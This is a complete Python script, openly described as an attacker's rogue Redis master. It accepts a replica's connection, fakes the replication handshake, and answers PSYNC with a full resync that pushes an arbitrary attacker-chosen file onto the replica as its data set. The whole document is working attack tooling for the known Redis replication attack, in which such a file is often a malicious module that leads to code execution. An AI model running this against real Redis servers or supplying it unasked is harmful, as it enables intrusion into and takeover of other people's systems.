# SPDX-License-Identifier: Apache-2.0
"""A redis master of an attacker: gives its replica a file of the attacker's as the data set.

usage: rogue_master.py ADDRESS PORT FILE    ends when the replica has the file
"""
import socket
import sys


def request_lines(stream):
    """Yields requests as lists of words."""
    while True:
        head = stream.readline()
        if not head:
            return
        if not head.strip():  # the replica shows that it is still there
            continue
        words = []
        for _ in range(int(head[1:])):
            size = int(stream.readline()[1:])
            words.append(stream.read(size + 2)[:-2].decode())
        yield words


def main():
    address, port, path = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    with open(path, "rb") as f:
        payload = f.read()
    with socket.create_server((address, port)) as server:
        replica, _ = server.accept()
        for words in request_lines(replica.makefile("rb")):
            name = words[0].upper()
            if name == "PING":
                replica.sendall(b"+PONG\r\n")
            elif name == "PSYNC":
                replica.sendall(b"+FULLRESYNC " + b"a" * 40 + b" 1\r\n")
                replica.sendall(b"$%d\r\n" % len(payload) + payload)
            else:
                replica.sendall(b"+OK\r\n")


main()
